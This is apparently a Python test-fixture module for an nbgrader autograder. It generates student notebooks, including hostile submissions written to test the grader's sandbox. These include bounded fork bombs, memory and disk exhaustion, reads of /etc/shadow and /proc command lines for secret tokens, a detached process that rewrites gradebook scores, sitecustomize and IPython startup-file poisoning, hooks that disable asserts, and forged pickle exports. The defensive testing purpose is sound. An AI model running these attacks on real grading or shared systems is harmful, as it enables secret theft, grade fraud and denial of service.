"""Small generated nbgrader assignments for the tests and the throughput benchmark (no notebook is committed).

``write_fixture_source(root, assignment)`` writes ``root/source/<assignment>/<assignment>.ipynb``: a locked setup
cell, a solution cell, a locked cell that calls the student's function on inputs the course chose (tests run in a
process that never ran student code: they see its plain-data result, ``squares_check``), a test cell with a visible
and a hidden part (``HIDDEN_MARKER`` appears only in the hidden part), a locked question and a manually graded
markdown answer (its source holds the rubric). ``student_notebook(release_nb, kind)`` turns the released notebook
into one student's submission: ``good``, ``blank`` and the hostile kinds in ``HOSTILE_KINDS``;
``attack_notebook(release_nb, kind, targets)`` the attacks of the hostile corpus (``ATTACKS``), which need the
grading machine's paths. ``answered_submission`` fills a real assignment's stubs; ``submit_notebooks`` puts
notebooks where ``collect`` would.

Tests import it as ``tests.autograde.fixtures``; ``benchmarks/autograde_throughput.py`` loads it from its file.
"""
from __future__ import annotations

import copy
import json
from pathlib import Path

#: Text that appears only inside the hidden tests (tests search the release and feedback for it).
HIDDEN_MARKER = "hidden_check_5_squares"
#: Text that appears only inside the solution regions.
SOLUTION_MARKER = "reference_solution_marker"
SOLUTION_CODE = f"    {SOLUTION_MARKER} = True\n    return [i * i for i in range(n)]"
MANUAL_ANSWER = ("**Rubric:** 1 point for the encoder/decoder as distributions, 1 for an advantage over a vanilla "
                 "autoencoder, 1 for a problem (e.g. blurry samples).\n\n"
                 "A VAE encodes each image as a distribution; reference_answer_marker.")

#: Every kind of student submission :func:`student_notebook` can write.
KINDS = ("good", "blank", "partial", "slow", "infinite_loop", "memory_bomb", "os_system", "network",
         "edited_test", "deleted_test", "duplicated_test", "moved_test", "crash", "fork_bomb", "memory_spreader",
         "disk_filler", "threaded")
HOSTILE_KINDS = ("infinite_loop", "memory_bomb", "os_system", "network", "edited_test", "deleted_test",
                 "duplicated_test", "moved_test", "crash", "fork_bomb", "memory_spreader", "disk_filler")
#: Prefix of the line the kinds that attack their neighbours print with what they achieved (JSON).
ISOLATION_REPORT = "ISOLATION-REPORT "

#: Kinds whose solution cell first attacks the machine the notebooks share, then defines the right answer (so
#: their own grade says the sandbox let them go on). Each is bounded, so a broken limit cannot take the machine
#: down: at most 2000 processes, 4 x 1.5 GiB, 2 x 256 MiB of files.
_NEIGHBOUR_ATTACKS = {
    # Fork until refused (once the neighbours' kernels have started); hold the children while they run.
    "fork_bomb": """
import json, os, time
time.sleep(3)
report, kids = {"forked": 0}, []
try:
    for _ in range(2000):
        pid = os.fork()
        if pid == 0:
            time.sleep(15)
            os._exit(0)
        kids.append(pid)
        report["forked"] += 1
except OSError as e:
    report["stopped"] = f"{type(e).__name__}: {e}"
for pid in kids:
    os.waitpid(pid, 0)
print(ISOLATION_REPORT + json.dumps(report))
""",
    # Four children, each touching 1.5 GiB in 64 MiB steps (one byte per step down a pipe), holding it 5 s.
    "memory_spreader": """
import json, os, time
kids = []
for _ in range(4):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        held = []
        for _ in range(24):
            held.append(b"x" * (64 << 20))
            os.write(w, b"+")
        time.sleep(5)
        os._exit(0)
    os.close(w)
    kids.append((pid, r))
report = {"held_mib": [], "killed": []}
for pid, r in kids:
    steps = b""
    while True:
        chunk = os.read(r, 64)
        if not chunk:
            break
        steps += chunk
    _, status = os.waitpid(pid, 0)
    report["held_mib"].append(64 * len(steps))
    report["killed"].append(os.WIFSIGNALED(status) and os.WTERMSIG(status) == 9)
print(ISOLATION_REPORT + json.dumps(report))
""",
    # Write past the quota in the work folder, then in HOME (each file removed after), 1 MiB at a time.
    "disk_filler": """
import json, os
report = {}
for name, path in (("work", "filler.bin"), ("home", os.path.expanduser("~/filler.bin"))):
    written = 0
    try:
        with open(path, "wb") as f:
            for _ in range(256):
                f.write(b"x" * (1 << 20))
                f.flush()
                written += 1
        report[name] = "WRITTEN"
    except OSError as e:
        report[name] = f"{type(e).__name__}: [Errno {e.errno}] {e.strerror}"
    finally:
        report[name + "_mib"] = written
        if os.path.exists(path):
            os.remove(path)
print(ISOLATION_REPORT + json.dumps(report))
""",
    # Not an attack: an honest neighbour that needs 48 threads a few seconds in (while a fork bomb beside it holds
    # its children). A thread that cannot start fails the cell, and the answer below is never defined.
    "threaded": """
import json, threading, time
time.sleep(5)
done = []
workers = [threading.Thread(target=done.append, args=(i,)) for i in range(48)]
for t in workers:
    t.start()
for t in workers:
    t.join()
print(ISOLATION_REPORT + json.dumps({"threads": len(done)}))
""",
}


def _meta(grade_id, *, grade=False, solution=False, locked=False, points=0):
    md = {"grade": grade, "grade_id": grade_id, "locked": locked, "schema_version": 3, "solution": solution,
          "task": False}
    if grade:
        md["points"] = points
    return {"nbgrader": md}


def source_notebook(assignment: str = "ps1", *, test_points: int = 2, manual_points: int = 3, manual: bool = True):
    """The instructor's version (nbformat NotebookNode) with solutions and hidden tests (``manual``: with the
    question and the manually graded answer)."""
    import nbformat
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
    cells = [
        new_markdown_cell(f"# {assignment}: squares\nFill in the function below."),
        new_code_cell("import os\nimport math", metadata=_meta("setup", locked=True)),
        new_code_cell("def squares(n):\n    \"\"\"The first n squares as a list.\"\"\"\n"
                      "    ### BEGIN SOLUTION\n" + SOLUTION_CODE + "\n    ### END SOLUTION",
                      metadata=_meta("squares", solution=True)),
        new_code_cell("# What the tests check: your function on the inputs the course chose (read-only cell).\n"
                      "squares_check = {n: squares(n) for n in (3, 5)}", metadata=_meta("check", locked=True)),
        new_code_cell("assert squares_check[3] == [0, 1, 4]\n### BEGIN HIDDEN TESTS\n"
                      f"{HIDDEN_MARKER} = squares_check[5]\nassert {HIDDEN_MARKER} == [0, 1, 4, 9, 16]\n"
                      "### END HIDDEN TESTS",
                      metadata=_meta("test_squares", grade=True, locked=True, points=test_points)),
        new_markdown_cell("**Question (3 points):** introduce the VAE, one advantage and one problem.",
                          metadata=_meta("question", locked=True)),
        new_markdown_cell(MANUAL_ANSWER, metadata=_meta("vae_answer", grade=True, solution=True,
                                                        points=manual_points)),
    ]
    if not manual:
        cells = cells[:-2]
    nb = new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                            "language": "python"}})
    nbformat.validate(nb)
    return nb


def write_fixture_source(root: Path, assignment: str = "ps1", **kw) -> Path:
    """Write the source notebook under ``root/source/<assignment>/`` and return its path."""
    import nbformat
    path = Path(root) / "source" / assignment / f"{assignment}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(source_notebook(assignment, **kw), str(path))
    return path


def _find(nb, grade_id):
    for i, c in enumerate(nb.cells):
        if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return i, c
    raise KeyError(grade_id)


def student_notebook(release_nb, kind: str):
    """A copy of the released notebook as a student of ``kind`` submits it (see ``KINDS``)."""
    if kind not in KINDS:
        raise ValueError(f"unknown kind {kind!r}; valid: {', '.join(KINDS)}")
    nb = copy.deepcopy(release_nb)
    _, sol = _find(nb, "squares")
    body = {
        "good": "    return [i * i for i in range(n)]",
        "partial": "    return [i * i for i in range(min(n, 3))]",
        "slow": "    import time\n    time.sleep(0.5)\n    return [i * i for i in range(n)]",
        "infinite_loop": "    while True:\n        pass",
        # Grows by 64 MiB steps and stops on its own at 6 GiB, so a broken limit cannot take the machine down.
        "memory_bomb": "    hog = []\n    for _ in range(96):\n        hog.append(b'x' * (64 << 20))\n"
                       "    return [i * i for i in range(n)]",
        "os_system": "    os.system('echo pwned > pwned.txt')\n    return [i * i for i in range(n)]",
        "network": "    import socket\n    socket.create_connection(('192.0.2.1', 80), timeout=2)\n"
                   "    return [i * i for i in range(n)]",
        "edited_test": "    return [0, 1, 4]",
        "deleted_test": "    return [0, 1, 4]",
        "duplicated_test": "    return [0, 1, 4]",
        "moved_test": "    return [0, 1, 4]",
        "crash": "    os._exit(3)",
    }.get(kind)
    if body is not None:
        sol.source = "def squares(n):\n" + body
    if kind in _NEIGHBOUR_ATTACKS:
        sol.source = (f"ISOLATION_REPORT = {ISOLATION_REPORT!r}\n" + _NEIGHBOUR_ATTACKS[kind]
                      + "\ndef squares(n):\n    return [i * i for i in range(n)]\n")
    if kind == "edited_test":
        _, test = _find(nb, "test_squares")
        test.source = "pass  # the tests are fine, trust me"
    if kind == "deleted_test":
        i, _ = _find(nb, "test_squares")
        del nb.cells[i]
    if kind == "duplicated_test":
        # an emptied copy first (nbgrader's DeduplicateIds would grade that one), the original after it
        i, test = _find(nb, "test_squares")
        fake = copy.deepcopy(test)
        fake.source = "pass"
        if "id" in fake:
            fake.id = f"{fake.id}-copy"
        nb.cells.insert(i, fake)
    if kind == "moved_test":
        # the test before the cells it checks, where it would fail... or, edited, pass on nothing
        i, test = _find(nb, "test_squares")
        del nb.cells[i]
        test.source = "pass"
        j, _ = _find(nb, "setup")
        nb.cells.insert(j, test)
    if kind in ("good", "partial") and any(c.metadata.get("nbgrader", {}).get("grade_id") == "vae_answer"
                                           for c in nb.cells):
        _, ans = _find(nb, "vae_answer")
        ans.source = "A VAE maps images to a Gaussian; sampling is easy; samples are blurry."
    return nb


def write_submission(path: Path, release_nb, kind: str) -> Path:
    """Write a student's notebook of ``kind`` to ``path`` (``not_a_notebook`` writes text that is not JSON)."""
    import nbformat
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "not_a_notebook":
        path.write_text("print('I wrote my homework in a .py file')\n", encoding="utf-8")
    elif kind == "broken_json":
        path.write_text(json.dumps(nbformat.writes(release_nb))[:200], encoding="utf-8")
    else:
        nbformat.write(student_notebook(release_nb, kind), str(path))
    return path


#: What a student who solved the kit's real assignments writes in place of each stub, with starter_code only (the
#: reference solutions call the kit's ``solutions`` package, which no sandboxed notebook can import).
STUDENT_ANSWERS = {
    "01_simple": {"train": "model, history = build_and_fit(train, cfg)\n"
                           "scores = anomaly_scores(model, test)"},
}
_STUB = ("# YOUR CODE HERE", "raise NotImplementedError()")


def answered_submission(release_nb, answers: dict):
    """The released notebook with each stub of the solution cells named in ``answers`` (grade id -> code) replaced
    by that code, indented like the stub: what a student hands in."""
    nb = copy.deepcopy(release_nb)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid not in answers:
            continue
        lines = cell.source.split("\n")
        i = next(k for k, ln in enumerate(lines) if ln.strip() == _STUB[0] and lines[k + 1].strip() == _STUB[1])
        indent = lines[i][: len(lines[i]) - len(lines[i].lstrip())]
        lines[i:i + 2] = [indent + ln for ln in answers[gid].split("\n")]
        cell.source = "\n".join(lines)
    return nb


def submit_notebooks(course, assignment: str, notebooks: dict) -> list[Path]:
    """Write each student's notebook (student id -> nbformat node) where ``collect`` puts it,
    ``COURSE/submitted/<id>/<assignment>/<assignment>.ipynb``; the paths written."""
    import nbformat
    paths = []
    for sid, nb in notebooks.items():
        path = course.course_dir / "submitted" / sid / assignment / f"{assignment}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, str(path))
        paths.append(path)
    return paths


def cli_term(root: Path, roster: dict[str, str], zipped: list[str]) -> list[str]:
    """The TA's first steps through ``python -m grader`` alone, on the fixture course ``ps1`` in ``root``:
    release, the roster (id -> name) and an LMS zip of good notebooks (file names as Canvas writes them)
    collected, then autograde with 2 workers; returns the course options (``--source``, ``--course``)."""
    import io
    import zipfile

    import nbformat

    from grader.cli import main
    write_fixture_source(root / "src", "ps1")
    common = ["--source", str(root / "src"), "--course", str(root / "course")]
    assert main(["release", *common]) == 0
    rel = nbformat.read(str(root / "course" / "student_release" / "ps1" / "ps1.ipynb"), as_version=4)
    (root / "roster.csv").write_text("id,name\n" + "".join(f"{i},{n}\n" for i, n in roster.items()),
                                     encoding="utf-8")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name in zipped:
            zf.writestr(name, nbformat.writes(student_notebook(rel, "good")))
    (root / "canvas.zip").write_bytes(buf.getvalue())
    assert main(["collect", str(root / "canvas.zip"), "--assignment", "ps1", "--roster", str(root / "roster.csv"),
                 *common]) == 0
    assert main(["autograde", *common, "--workers", "2", "--cell-timeout", "20", "--no-progress", "--no-data"]) == 0
    return common


# --- the hostile corpus: attacks on the grader itself -----------------------------------------------------------

#: Every attack :func:`attack_notebook` can write (tests/autograde/test_hostile.py says what each must not achieve).
ATTACKS = ("hooks", "processes", "survivor", "secrets", "network", "resources", "poison", "forged_export")
#: Prefix of the line an attack prints with what it achieved (JSON).
REPORT = "ATTACK-REPORT "

_WRONG = "def squares(n):\n    return [-i * i for i in range(n)]    # sign-flipped: must earn 0\n"

_ATTACK_CODE = {
    # Make later cells run as nothing, hide errors, and print every cell's source as it runs.
    "hooks": """
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'] if any('assert' in l for l in lines) else lines)
ip.events.register('pre_run_cell', lambda info: print('CELL>>', info.raw_cell))
ip.showtraceback = lambda *a, **k: None
print(REPORT + json.dumps({{"hooks": "installed"}}))
""",
    # Start processes without any audit event (a private stdlib API, ctypes), as the kernel's user.
    "processes": """
import _posixsubprocess, ctypes, subprocess
report = {{}}
r, w = os.pipe()
errr, errw = os.pipe()
cmd = "id -u; cat /etc/shadow 2>&1 | head -c 80; touch {course_dir}/pwned_by_fork_exec 2>&1"
pid = _posixsubprocess.fork_exec([b"/bin/sh", b"-c", cmd.encode()], (b"/bin/sh",), True, (w,), None, None,
                                 -1, -1, -1, w, -1, w, errr, errw, True, False, -1, None, None, None, -1, None, False)
os.close(w); os.close(errw)
os.waitpid(pid, 0)
report["fork_exec"] = os.read(r, 4096).decode(errors="replace")
libc = ctypes.CDLL(None)
report["ctypes_system_rc"] = libc.system(b"id -u > ctypes_uid.txt; touch {course_dir}/pwned_by_ctypes")
report["ctypes_uid"] = open("ctypes_uid.txt").read().strip() if os.path.exists("ctypes_uid.txt") else None
try:
    os.posix_spawn("/bin/sh", ["/bin/sh", "-c", "true"], os.environ)
    report["posix_spawn"] = "started"
except Exception as e:
    report["posix_spawn"] = f"{{type(e).__name__}}: {{e}}"
print(REPORT + json.dumps(report))
""",
    # A child that leaves the kernel's session, outlives the notebook, then rewrites the gradebook.
    "survivor": """
import ctypes, time, sqlite3
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, {comm!r}.encode(), 0, 0, 0)     # PR_SET_NAME: findable by the test
        time.sleep({wait})
        for attempt in (
                lambda: open({course_dir!r} + "/survivor_was_here", "w").write("x"),
                lambda: sqlite3.connect({gradebook!r}).execute("update grade set auto_score = 99").connection.commit()):
            try:
                attempt()
            except Exception:
                pass
        os._exit(0)
    os._exit(0)
print(REPORT + json.dumps({{"survivor": "forked"}}))
""",
    # Read every secret of the grading machine a student who read the kit could name.
    "secrets": """
import glob
report = {{}}
for path in {paths!r}:
    try:
        with open(path, "rb") as f:
            report[path] = "READ " + f.read(60).decode(errors="replace")
    except Exception as e:
        report[path] = f"denied: {{type(e).__name__}}"
for folder in {folders!r}:
    try:
        report[folder] = "LISTED " + ", ".join(sorted(os.listdir(folder))[:5])
    except Exception as e:
        report[folder] = f"denied: {{type(e).__name__}}"
seen = []
for f in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        seen.append(open(f, "rb").read().decode(errors="replace"))
    except Exception:
        pass
report["cmdline_tokens"] = sorted(w for c in seen for w in c.split("\\0") if w.startswith({token_prefix!r}))
report["processes_visible"] = len(seen)
for mod in ("solutions", "grader", "kit", "data_tools", "assignments"):
    try:
        __import__(mod)
        report["import " + mod] = "IMPORTED"
    except Exception as e:
        report["import " + mod] = f"denied: {{type(e).__name__}}"
print(REPORT + json.dumps(report))
""",
    # Reach the grading machine's loopback (a listener the test runs) and the outside, also below Python.
    "network": """
import socket, ctypes, struct
report = {{}}
for name, addr in (("loopback", ("127.0.0.1", {port})), ("outside", ("192.0.2.1", 80))):
    try:
        socket.create_connection(addr, timeout=3).close()
        report[name] = "CONNECTED"
    except Exception as e:
        report[name] = f"{{type(e).__name__}}: {{e}}"
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.socket(2, 1, 0)
sa = struct.pack("!HH4s8x", 2, {port}, bytes([127, 0, 0, 1]))
sa = struct.pack("=H", 2) + sa[2:]
rc = libc.connect(fd, sa, len(sa))
report["loopback_ctypes"] = "CONNECTED" if rc == 0 else f"errno {{ctypes.get_errno()}}"
print(REPORT + json.dumps(report))
""",
    # Plant code where a test kernel might load it (config files, modules and startup scripts in the notebook's
    # folder and HOME): if any ran there, the forged answer below would earn full marks.
    "poison": """
import hw8_exchange    # this kernel keeps the real one; the planted copies are for the next process
answer = "{{3: [0, 1, 4], 5: [0, 1, 4, 9, 16]}}"
fake = ("def export(*a, **k):\\n    pass\\n"
        "def load(step, names, ns=None, *a, **k):\\n    ns['squares_check'] = " + answer + "\\n")
wrapper = ("import hw8_exchange as _x\\n"
           "def _wrap(load):\\n"
           "    def forged(*a, **k):\\n        load(*a, **k)\\n        a[2]['squares_check'] = " + answer + "\\n"
           "    return forged\\n"
           "if not getattr(_x, 'poisoned', False):\\n    _x.load, _x.poisoned = _wrap(_x.load), True\\n")
planted = {{"hw8_exchange.py": fake, "sitecustomize.py": wrapper, "usercustomize.py": wrapper,
           "ipython_kernel_config.py": f"c.InteractiveShellApp.exec_lines = [{{wrapper!r}}]\\n",
           "ipython_config.py": f"c.InteractiveShellApp.exec_lines = [{{wrapper!r}}]\\n",
           os.path.expanduser("~/.ipython/profile_default/startup/00-poison.py"): wrapper,
           os.path.expanduser("~/.ipython/profile_default/ipython_kernel_config.py"):
               f"c.InteractiveShellApp.exec_lines = [{{wrapper!r}}]\\n",
           "matplotlibrc": "backend: module://hw8_exchange\\n"}}
for path, code in planted.items():
    os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
    open(path, "w").write(code)
print(REPORT + json.dumps({{"planted": len(planted)}}))
""",
    # Rewrite the exports after they are written (a post_run_cell hook): code references, a pickle, a forged
    # right answer as a dataclass of an untrusted class.
    "forged_export": """
import glob, pickle
def forge(result):
    for manifest in glob.glob("/hw8/export/*/manifest.json"):
        folder = os.path.dirname(manifest)
        with open(os.path.join(folder, "a999.npy"), "wb") as f:
            f.write(b"\\x93NUMPY\\x01\\x00v\\x00{{'descr': '|O', 'fortran_order': False, 'shape': (1,), }}" + b" " * 60
                    + b"\\n" + pickle.dumps([1]))
        with open(manifest, "w") as f:
            json.dump({{"squares_check": {{"t": "dataclass", "module": "collections", "qualname": "UserDict",
                                           "fields": {{}}}},
                       "np": {{"t": "ndarray", "f": "a999.npy"}}}}, f)
get_ipython().events.register("post_run_cell", forge)
print(REPORT + json.dumps({{"forger": "registered"}}))
""",
    # Exhaust processes and disk.
    "resources": """
import time
report = {{"forked": 0}}
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        report["forked"] += 1
except OSError as e:
    report["fork_stopped"] = f"{{type(e).__name__}}: {{e}}"
try:
    with open("big.bin", "wb") as f:
        for _ in range(2048):
            f.write(b"x" * (1 << 20))
    report["big_file"] = "WRITTEN 2 GiB"
except OSError as e:
    report["big_file"] = f"{{type(e).__name__}}: {{e}}"
print(REPORT + json.dumps(report))
""",
}


def attack_notebook(release_nb, kind: str, targets: dict):
    """A submission whose solution cell runs attack ``kind`` (see ``ATTACKS``) and computes a wrong answer.

    ``targets``: what the attacker aims at on the grading machine, as a student who read the kit would guess it:
    ``course_dir``, ``gradebook``, ``paths`` (secret files), ``folders`` (secret folders), ``token_prefix`` (how
    a secret on some process's command line starts: the attack looks for it in every /proc/*/cmdline), ``port``
    (a listener on the machine's loopback), ``comm`` and ``wait`` (the survivor's process name and how long it
    waits).
    """
    if kind not in ATTACKS:
        raise ValueError(f"unknown attack {kind!r}; valid: {', '.join(ATTACKS)}")
    nb = copy.deepcopy(release_nb)
    _, sol = _find(nb, "squares")
    defaults = {"course_dir": "/nonexistent", "gradebook": "/nonexistent/gradebook.db", "paths": [], "folders": [],
                "token_prefix": "tok-", "port": 9, "comm": "hw8survivor", "wait": 5}
    code = _ATTACK_CODE[kind].format(**{**defaults, **targets})
    sol.source = f"import json, os\nREPORT = {REPORT!r}\n" + code + _WRONG
    return nb
